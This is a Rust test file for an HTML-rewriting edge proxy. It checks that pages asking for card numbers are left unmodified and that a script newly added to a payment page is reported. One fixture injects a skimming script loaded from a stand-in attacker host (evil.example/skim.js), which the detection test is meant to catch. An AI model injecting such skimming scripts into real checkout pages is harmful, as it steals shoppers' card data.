//! Pages that take payments.

use vitrine_edge::testing::Fake;

use super::support::{MARK, PAGE, all, app, get, html};

/// A page at a path that no rule knows, on which a card number is asked for.
const CARD_FORM: &str = "<!doctype html><html><head><title>Weiter</title></head><body><form method=post>\
    <input autocomplete=cc-number></form></body></html>";

/// H105: with default options, from the first view on, and for pages of the same kind that were never seen.
#[test]
fn h105_a_payment_page_is_known_by_its_content_and_nothing_is_done_to_it() {
    let policy =
        r#"{"holdback":{"percent":0},"passes":{"preconnect":{"origins":["https://cdn.example"]}}}"#;
    let (fake, app) = (Fake::with_origin(|| html(&[], CARD_FORM)), app(policy));
    for (path, reason) in [
        ("/weiter/1", "first-view"),
        ("/weiter/1", "payment"),
        ("/weiter/2", "payment"),
    ] {
        let whole = fake.send(&app, get(path, &[("accept", "text/html")]));
        let summary = whole.header("x-vitrine").to_owned();
        assert!(
            summary.ends_with(&format!("reason={reason}")),
            "{path}: {summary}"
        );
        assert_eq!(whole.text(), CARD_FORM, "{path}");
        assert!(all(&whole, "set-cookie").is_empty(), "{path}");
    }
    let found = fake
        .lines()
        .iter()
        .filter(|l| l.contains("payment-page-found"))
        .count();
    assert_eq!(found, 1, "{:?}", fake.lines());
}

/// H105: the first page of a kind passes untouched, those after it do not.
#[test]
fn h105_the_first_page_of_a_kind_is_looked_at_before_any_is_changed() {
    let policy =
        r#"{"holdback":{"percent":0},"passes":{"preconnect":{"origins":["https://cdn.example"]}}}"#;
    let (fake, app) = (Fake::with_origin(|| html(&[], PAGE)), app(policy));
    let rewritten = |path: &str| {
        let whole = fake.send(&app, get(path, &[("accept", "text/html")]));
        whole.text().contains(MARK) || whole.header("content-encoding") == "br"
    };
    assert!(!rewritten("/p/1"));
    assert!(rewritten("/p/1"));
    assert!(rewritten("/p/2"));
    assert!(!rewritten("/c/vases"), "another kind of page");
}

/// H105: a page that gives itself away behind its head is left from there on, and wholly from then on.
#[test]
fn h105_a_payment_page_among_others_is_left_from_its_first_sign_on() {
    let policy = r#"{"holdback":{"percent":0},"compression":{"enabled":false},"passes":{
        "size_images":{"rules":[{"selector":"img","width":6,"height":8}]}}}"#;
    let page = "<!doctype html><html><head><title>T</title></head><body><img src=/a.png><input autocomplete=cc-number><img src=/b.png></body></html>";
    let (fake, app) = (Fake::with_origin(|| html(&[], PAGE)), app(policy));
    let send = |path: &str| fake.send(&app, get(path, &[("accept", "text/html")]));
    send("/blue-vase");
    fake.script(move |_| Ok(html(&[], page)));
    let first = send("/zur-kasse").text();
    assert!(first.contains("<img src=/a.png width=\"6\""), "{first}");
    assert!(first.ends_with("<img src=/b.png></body></html>"), "{first}");
    assert_eq!(send("/zur-kasse").text(), page);
    assert!(send("/red-vase").text().starts_with("<!doctype"));
}

/// H105: the list of scripts on a payment page is kept, and a change is said once.
#[test]
fn h105_a_new_script_on_a_payment_page_is_reported() {
    let page = |extra: &str| {
        format!(
            "<!doctype html><html><head><title>T</title><script src=https://js.stripe.com/v3/></script>\
             <script>var token = 'x{}'</script>{extra}</head><body></body></html>",
            extra.len()
        )
    };
    let (fake, app) = (
        Fake::with_origin({
            let page = page("");
            move || html(&[], page.clone())
        }),
        app("{}"),
    );
    let views = |n: usize| {
        for _ in 0..n {
            fake.send(&app, get("/weiter", &[("accept", "text/html")]));
        }
        let lines = fake.lines();
        lines
            .iter()
            .filter(|l| l.contains("\"event\":\"payment-"))
            .cloned()
            .collect::<Vec<_>>()
    };
    assert_eq!(views(200).len(), 1, "the page is found once");
    let skimmed = page("<script src=https://evil.example/skim.js?visitor=1></script>");
    fake.script(move |_| Ok(html(&[], skimmed.clone())));
    let events = views(200);
    assert_eq!(events.len(), 2, "{events:?}");
    assert!(events[1].contains("payment-scripts-changed"), "{events:?}");
    assert!(
        events[1].contains("\"added\":[\"https://evil.example/skim.js\"]"),
        "{events:?}"
    );
}
